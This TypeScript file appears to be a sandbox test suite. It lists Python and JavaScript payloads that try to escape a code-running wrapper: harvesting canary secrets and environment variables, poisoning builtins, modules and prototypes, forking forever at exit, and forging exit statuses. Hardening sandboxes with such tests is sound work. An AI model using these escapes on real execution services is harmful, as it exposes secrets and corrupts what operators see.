import { type Attack, anyOf, javascript, misreported, python, saysEscaped, stoleSecret } from "../attack.ts";

/**
 * Turning the code that runs a program against itself: what it left in the interpreter, and the names that it uses afterwards. The
 * first kind finds secrets in a bare subprocess too; the second only harms wrappers that share the program's interpreter.
 */
export const WRAPPER: readonly Attack[] = [
  {
    name: "searches every object of the interpreter",
    language: "python",
    code: `import gc, os, re
found = set()
for value in gc.get_objects() + [dict(os.environb)]:
    for inner in (value.values() if type(value) is dict else value if type(value) in (list, tuple) else ()):
        if isinstance(inner, (str, bytes)): found.update(re.findall("canary-[a-z]+-[0-9a-f]{32}", str(inner)))
print(found)`,
    escaped: stoleSecret,
  },
  {
    name: "climbs from an exception to the frames of its wrapper (CVE-2026-0863, n8n)",
    language: "python",
    quick: true,
    code: `import os, sys
frame = sys._getframe()
names = []
while frame:
    names.append((frame.f_code.co_filename, sorted(frame.f_globals)))
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        try:
            if os.fstat(value.fileno()).st_mode & 0o170000 == 0o140000: print("ESCAPED", value)
        except Exception: pass
    frame = frame.f_back
print(names, os.environ)`,
    escaped: anyOf(saysEscaped, stoleSecret),
  },
  {
    name: "finds a way to the system by the subclasses of object (the classic)",
    language: "python",
    code: `import os
loaders = [kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == "_wrap_close"]
print(loaders[0].__init__.__globals__["popen"]("env").read())`,
    escaped: stoleSecret,
  },
  {
    name: "poisons the modules that its wrapper imports later",
    language: "python",
    code: `import builtins, json, os, sys
def leak(*parameters, **named): os.write(1, repr(os.environ).encode()); return None
for module in (json, os, sys): 
    for name in ("dumps", "waitpid", "exit", "excepthook"):
        if hasattr(module, name): setattr(module, name, leak)
sys.modules["traceback"] = sys.modules["linecache"] = None
1 / 0`,
    escaped: stoleSecret,
  },
  {
    name: "replaces what everything is built on",
    language: "python",
    code: `import builtins
real = print
for name in ("open", "print", "len", "isinstance", "getattr", "__import__", "repr", "str", "Exception"):
    setattr(builtins, name, None)
real("done")`,
    escaped: misreported({ status: "succeeded", stdout: "done\n" }),
  },
  {
    name: "never lets go at the end (atexit)",
    language: "python",
    timeoutSeconds: 2,
    statuses: ["timed_out"],
    code: `import atexit, os
def stay():
    os.fork()
    while True: pass
atexit.register(stay)`,
    escaped: misreported({ status: "timed_out" }),
  },
  {
    name: "answers its own failure with a success (excepthook)",
    language: "python",
    code: `import sys
def hook(kind, value, trace): raise RuntimeError("again")
sys.excepthook = hook
raise ValueError("first")`,
    escaped: misreported({ status: "failed", exitCode: 1 }),
  },
  {
    name: "throws what runs code when it is printed",
    language: "python",
    code: `import os
class Trap(BaseException):
    def __str__(self):
        os.write(1, b"shown %r" % dict(os.environb))
        raise self
    __repr__ = __str__
raise Trap`,
    escaped: stoleSecret,
  },
  {
    name: "ends with a code that is none",
    language: "python",
    code: `import sys
class Code(int):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
sys.exit(Code(256 + 7))`,
    escaped: misreported({ status: "failed", exitCode: 7 }),
  },
  {
    name: "redeclares what its wrapper calls (CVE-2025-3466, dify-sandbox: parseInt)",
    language: "javascript",
    quick: true,
    code: `const real = console.log;
parseInt = parseFloat = JSON.parse = JSON.stringify = Object.keys = Object.defineProperty = () => { throw new Error("mine"); };
real("done")`,
    escaped: misreported({ status: "succeeded", stdout: "done\n" }),
  },
  {
    name: "pollutes the prototypes that its wrapper uses",
    language: "javascript",
    code: `const trap = { get() { throw new Error("mine"); }, set() {}, configurable: true };
console.log("done");
for (const name of ["status", "exitCode", "length2", "then", "toJSON", "value", "get", "engine", "reference", "result"]) Object.defineProperty(Object.prototype, name, trap);
Array.prototype.push = Array.prototype.map = Array.prototype.join = Function.prototype.call = Function.prototype.apply = Promise.prototype.then = () => { throw new Error("mine"); };`,
    escaped: misreported({ stdout: "done\n" }),
  },
  {
    name: "replaces the process's own functions",
    language: "javascript",
    code: `console.log("done");
process.exit = process.reallyExit = process.emit = process.on = process._tickCallback = () => {};
process.exitCode = 5;`,
    escaped: misreported({ status: "failed", exitCode: 5, stdout: "done\n" }),
  },
  {
    name: "hands out a result whose parts run code",
    language: "javascript",
    code: javascript`const trap = new Proxy({}, { get() { for (;;); }, ownKeys() { throw new Error("mine"); } });
module.exports = trap;
globalThis.then = () => console.log("ESCAPED");
console.log("done");`,
    escaped: misreported({ status: "succeeded", stdout: "done\n" }),
  },
  {
    name: "throws what runs code when it is looked at",
    language: "javascript",
    code: `throw new Proxy(new Error("first"), {
  get(target, name) { if (name === "stack" || name === "message") throw new Error("second"); return target[name]; },
  getPrototypeOf() { throw new Error("third"); },
});`,
    escaped: misreported({ status: "failed" }),
  },
  {
    name: "reads the environment by a module that is loaded already (require.cache, mainModule)",
    language: "javascript",
    code: `const start = process.mainModule ?? require.main;
for (let place = start; place; place = place.parent) console.log(place.filename, place.paths);
console.log(Object.keys(require.cache), process.binding ? process.env : {});`,
    escaped: stoleSecret,
  },
  {
    name: "leaves options to the interpreter of the next program (NODE_OPTIONS, sitecustomize)",
    language: "python",
    code: python`import os, subprocess, sys
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.getcwd()
open("sitecustomize.py", "w").write("import os\nprint(dict(os.environ))")
print(subprocess.run([sys.executable, "-c", "pass"], capture_output=True, text=True).stdout)`,
    escaped: stoleSecret,
  },
];
